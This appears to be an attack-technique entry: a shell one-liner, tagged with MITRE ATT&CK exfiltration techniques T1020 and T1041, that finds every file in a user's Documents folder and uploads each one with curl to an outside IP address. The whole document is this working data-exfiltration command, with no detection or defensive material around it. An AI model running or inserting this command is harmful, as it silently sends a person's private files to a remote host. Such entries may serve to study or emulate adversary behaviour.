# title: A script sends each document by itself
# technique: T1020 T1041
# needs: curl

find /home/ann/Documents -type f | while read -r f; do curl -s -T "$f" http://192.88.99.7/; done
